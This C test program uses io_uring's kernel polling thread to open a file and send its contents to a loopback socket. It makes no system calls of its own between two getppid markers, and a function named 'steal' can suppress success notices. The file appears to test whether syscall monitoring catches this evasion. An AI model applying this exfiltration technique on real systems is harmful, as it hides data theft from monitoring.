/* SPDX-License-Identifier: MIT */
/*
 * Reads a file and sends it away without a system call for any of it: ring_only FILE PORT [silent].
 * All is prepared before the first of two calls of getppid(2) that mark the time between, in which
 * a thread of the kernel polls the ring for what is written to memory that both map. Silently: the
 * kernel is not to tell of any success.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/stat.h>

#include "../support/uring.h"

enum { FILE_SLOT, SOCKET_SLOT, SLOTS, IDLE_MS = 10000, BYTES = 4096, FIRST_TRANSFER = 3, END = 1 };

static struct uring ring;
static char bytes[BYTES];

/* Fills in the operation and waits by looking at memory alone. */
static int ask(struct io_uring_sqe operation)
{
	struct io_uring_sqe *entry = uring_next(&ring);
	struct io_uring_cqe completion;

	*entry = operation;
	__atomic_store_n(uring_word(&ring, ring.params.sq_off.tail), ring.tail, __ATOMIC_RELEASE);
	while (!uring_take(&ring, &completion))
		;
	return completion.res;
}

/* All in one submission, each when the one before has ended, and without a word if it succeeds. */
static int ask_silently(const struct io_uring_sqe *steps, int count)
{
	struct io_uring_cqe completion;

	for (int i = 0; i < count; i++) {
		struct io_uring_sqe *entry = uring_next(&ring);

		*entry = steps[i];
		entry->flags |= IOSQE_IO_LINK | IOSQE_CQE_SKIP_SUCCESS;
	}
	*uring_next(&ring) = (struct io_uring_sqe){.opcode = IORING_OP_NOP, .user_data = END};
	__atomic_store_n(uring_word(&ring, ring.params.sq_off.tail), ring.tail, __ATOMIC_RELEASE);
	while (!uring_take(&ring, &completion))
		;
	return completion.user_data == END ? completion.res : -EIO;
}

static int steal(const char *file, const struct sockaddr_in *receiver, uint32_t len, bool silently)
{
	const struct io_uring_sqe steps[] = {
		{.opcode = IORING_OP_OPENAT,
		 .fd = AT_FDCWD,
		 .addr = (uintptr_t)file,
		 .file_index = FILE_SLOT + 1},
		{.opcode = IORING_OP_SOCKET,
		 .fd = AF_INET,
		 .off = SOCK_STREAM,
		 .file_index = SOCKET_SLOT + 1},
		{.opcode = IORING_OP_CONNECT,
		 .flags = IOSQE_FIXED_FILE,
		 .fd = SOCKET_SLOT,
		 .addr = (uintptr_t)receiver,
		 .off = sizeof(*receiver)},
		{.opcode = IORING_OP_READ,
		 .flags = IOSQE_FIXED_FILE,
		 .fd = FILE_SLOT,
		 .addr = (uintptr_t)bytes,
		 .len = len},
		{.opcode = IORING_OP_SEND,
		 .flags = IOSQE_FIXED_FILE,
		 .fd = SOCKET_SLOT,
		 .addr = (uintptr_t)bytes,
		 .len = len},
	};
	const int count = sizeof(steps) / sizeof(steps[0]);

	if (silently)
		return ask_silently(steps, count) ? -EIO : (int)len;
	for (int i = 0; i < count; i++) {
		int r = ask(steps[i]);

		if (r < 0 || (i >= FIRST_TRANSFER && r != (int)len))
			return r < 0 ? r : -EIO;
	}
	return (int)len;
}

int main(int argc, char **argv)
{
	struct io_uring_params params = {.flags = IORING_SETUP_SQPOLL, .sq_thread_idle = IDLE_MS};
	struct sockaddr_in receiver = {.sin_family = AF_INET};
	int none[SLOTS] = {-1, -1}, sent;
	struct stat info;

	if (argc < 3 || stat(argv[1], &info))
		return 2;
	receiver.sin_port = htons((uint16_t)strtoul(argv[2], NULL, 10));
	receiver.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	ring = (struct uring){.params = params};
	ring.fd = (int)syscall(SYS_io_uring_setup, 8, &ring.params);
	if (ring.fd < 0 || uring_map(&ring) ||
	    uring_register(&ring, IORING_REGISTER_FILES, none, SLOTS))
		return 77;
	memset(bytes, 1, sizeof(bytes)); /* no page fault later */
	/* Wakes the thread, which polls from now on. */
	if (uring_do(&ring, &(struct io_uring_sqe){.opcode = IORING_OP_NOP}))
		return 1;
	syscall(SYS_getppid);
	sent = steal(argv[1], &receiver, info.st_size < BYTES ? (uint32_t)info.st_size : BYTES,
		     argc > 3);
	syscall(SYS_getppid);
	if (sent == -EINVAL)
		return 77;
	printf("%d\n", sent);
	return sent > 0 ? 0 : 1;
}
